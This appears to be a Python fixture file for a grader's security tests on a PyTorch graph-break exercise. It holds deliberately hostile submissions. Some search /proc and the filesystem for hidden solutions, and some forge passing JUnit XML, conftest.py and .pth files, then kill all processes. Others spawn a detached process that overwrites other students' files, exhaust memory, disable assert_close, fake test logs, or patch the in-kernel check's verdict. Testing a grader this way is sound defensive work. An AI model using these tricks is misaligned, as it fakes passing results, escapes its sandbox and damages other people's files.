"""Student code for the grading tests: wrong answers and attacks, on ex03 (tasks 3.1 and 3.2).

Every attacker's own answers are wrong (``WRONG_3_1``, ``WRONG_3_2``), so any point an attacker
gets is a point its attack gained. Two kinds of attack:

* on the grader (``SOLUTION_HUNT``, ``WRITE_TRUSTED``, ``OUTLIVE``, ``HOG``, ``LIB_FORGE``): reach
  what the sandbox hides, write what grading trusts, outlive the turn, exhaust the machine;
* on the check inside the kernel (``IN_KERNEL``): forge the verdict of a predict-then-verify check
  from the student's own cell (replay the visible PASS line, patch ``nbcheck``, a prediction that
  equals anything, measuring instead of predicting, overwriting the prediction once the
  measurement exists). The sandbox cannot see these: they run in the kernel that runs the check.
"""

from __future__ import annotations

NB = "notebooks/exercises/ex03_graph_breaks.ipynb"
LIB = "labkit/compiler/lower.py"

WRONG_3_1 = '''
def predict_graphs(statements):
    """Wrong on purpose: Dynamo never compiles more than one graph per statement."""
    return len(statements) + 100
'''
WRONG_3_2 = '''
DIAGNOSIS = {"A": "tensor value read into Python",                 # (A) and (B) swapped
             "B": "side effect that Dynamo cannot put in a graph",
             "C": "shape-specialised Python integer"}
def diagnose(line):                                 # the same, as the function later versions ask
    return "unsupported C extension call"
'''

# Look for the solution anywhere: notebooks under the cwd, /, /work, /tmp and HOME, the grader's
# cwd/root through /proc/<pid>/, paths named in any /proc/<pid>/environ or cmdline, nbval's
# memory; run the first solution of Task 3.1 found, else the wrong answer.
SOLUTION_HUNT = r'''
import glob, json, os, re
found = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", str(os.getppid())]:
    for what in ("cwd", "root"):
        found += glob.glob(f"/proc/{pid}/{what}/**/*.ipynb", recursive=True)[:50]
    for what in ("environ", "cmdline"):
        try:
            found += re.findall(r"/[\w./-]+\.ipynb", open(f"/proc/{pid}/{what}").read())
        except OSError:
            pass
    try:
        with open(f"/proc/{pid}/mem", "rb") as mem:
            mem.read(16)
            found.append(f"mem:{pid}")
    except OSError:
        pass
for top in (os.getcwd(), "/", "/work", "/tmp", os.path.expanduser("~")):
    for dirpath, dirs, files in os.walk(top):
        if dirpath.startswith(("/proc", "/sys", "/usr")):
            dirs[:] = []
            continue
        found += [os.path.join(dirpath, f) for f in files if f.endswith(".ipynb")]
_solution = None
for path in found:
    try:
        for cell in json.load(open(path))["cells"]:
            src = "".join(cell.get("source", ""))
            if cell.get("id") == "t3-1" and "NotImplementedError" not in src and "+ 100" not in src:
                _solution = src
    except Exception:
        pass
''' + WRONG_3_1 + '''
if _solution:
    exec(_solution)
'''

# Write whatever the grader trusts: JUnit XML and logs (found by name anywhere), the sanitizer,
# conftest.py and pytest.ini of the workspace, a .pth in the environment; then kill everything.
WRITE_TRUSTED = r'''
import os, signal, site, sys
PASS = '<testsuites><testsuite tests="1"><testcase classname="x" name="y"/></testsuite></testsuites>'
targets = [os.path.join(p, "evil.pth") for p in site.getsitepackages() + [sys.prefix]]
for dirpath, dirs, files in os.walk("/"):
    if dirpath.startswith(("/proc", "/sys", "/usr", "/dev")):
        dirs[:] = []
        continue
    targets += [os.path.join(dirpath, f) for f in files
                if f.endswith((".xml", ".jsonl", ".cfg", ".ini", "conftest.py"))]
    targets += [os.path.join(dirpath, "conftest.py"), os.path.join(dirpath, "nb.xml")]
for path in targets:
    try:
        with open(path, "a") as fh:
            fh.write("\nimport os; os.environ['PWNED'] = '1'\n" if path.endswith((".py", ".pth"))
                     else PASS if path.endswith(".xml") else "\n[all]\nregex: .*\nreplace: X\n")
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)      # every process this user can signal
''' + WRONG_3_1

# Outlive the submission: a new session that keeps trying to sabotage later students' files.
OUTLIVE = r'''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 400
        while time.time() < end:
            for top in ("/tmp", os.path.dirname(os.getcwd())):
                for dirpath, dirs, files in os.walk(top):
                    for f in files:
                        try:
                            open(os.path.join(dirpath, f), "w").write("sabotage")
                        except OSError:
                            pass
            time.sleep(0.5)
        os._exit(0)
    os._exit(0)
''' + WRONG_3_1

# Exhaust the grader: memory (one huge block; then 8 processes of 1 GiB, each under RLIMIT_AS but
# together over the sandbox's memory cgroup), output.
HOG = r'''
try:
    hog = bytearray(40 << 30)
except MemoryError:
    pass
import subprocess, sys
eat = "b = bytearray(b'x') * (1 << 30); import time; time.sleep(30)"
kids = [subprocess.Popen([sys.executable, "-c", eat]) for _ in range(8)]
for _ in range(400):
    sys.stdout.write("x" * (1 << 18))
''' + WRONG_3_1

# A library file that disables the checks and forges the transcript of the library tests.
LIB_FORGE = r'''
import json, os, torch.testing
torch.testing.assert_close = lambda *a, **k: None          # every comparison "passes"
_log = os.environ.get("LABKIT_OBSERVE")
if _log:
    for name in ["test_sigmoid_lowering_builds_a_pointwise_node"] + [
            f"test_sigmoid_lowering_matches_eager[{d}]" for d in ("dtype0", "dtype1", "dtype2")]:
        with open(_log, "a") as fh:
            fh.write(json.dumps({"nodeid": f"tests/test_compiler_exercises.py::{name}",
                                 "when": "call", "outcome": "passed", "markers": ["task5_1"],
                                 "values": []}) + "\n")
for name in ("conftest.py", "tests/conftest.py"):
    try:
        open(os.path.join(os.environ["PYTHONPATH"], name), "a").write("x = 1\n")
    except OSError:
        pass
'''

# -- forging a predict-then-verify check from inside the kernel (Task 3.1) ------------------------
IN_KERNEL = {
    # print the PASS line of the released self-check copy whenever the check prints FAIL (VISIBLE
    # is filled in by the test from the notebook's stored output)
    "replay_visible_pass": '''
import builtins
_print = builtins.print
def print(*args, **kwargs):
    if args and str(args[0]).startswith("Task 3.1: FAIL"):
        return _print(VISIBLE)
    return _print(*args, **kwargs)
builtins.print = print
''' + WRONG_3_1,
    # drop the problems the check found
    "patch_verdict": '''
from labkit.grading import nbcheck as _nc
_verdict = _nc.verdict
_nc.verdict = lambda task, problems, *args, **kwargs: _verdict(task, [], *args, **kwargs)
''' + WRONG_3_1,
    # a prediction that compares equal to any measurement
    "always_equal": '''
class _Any(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    __hash__ = int.__hash__
def predict_graphs(statements):
    return _Any(0)
''',
    # keep Dynamo's entry point before the check replaces it, and measure instead of predicting
    "measure_in_predict": '''
import contextlib as _cl, io as _io
import torch._dynamo as _dynamo
from torch._dynamo.testing import CompileCounter as _Counter
_optimize = _dynamo.optimize                         # kept before the check replaces it
def predict_graphs(statements):
    _dynamo.reset()
    counter = _Counter()
    with _cl.redirect_stdout(_io.StringIO()):
        _optimize(counter)(build(statements))(torch.rand(8) + 0.1)
    return counter.frame_count
''',
    # a profile hook: once the measurement exists, copy it over the recorded predictions
    "overwrite_prediction": '''
import sys as _sys
def _hook(frame, event, arg):
    if event == "c_call" and arg is zip:             # in the check cell or in nbcheck
        for names in (frame.f_locals, frame.f_globals):
            p, m = names.get("predicted"), names.get("measured")
            if isinstance(p, list) and isinstance(m, list) and len(p) == len(m):
                p[:] = m
_sys.setprofile(_hook)
''' + WRONG_3_1,
}
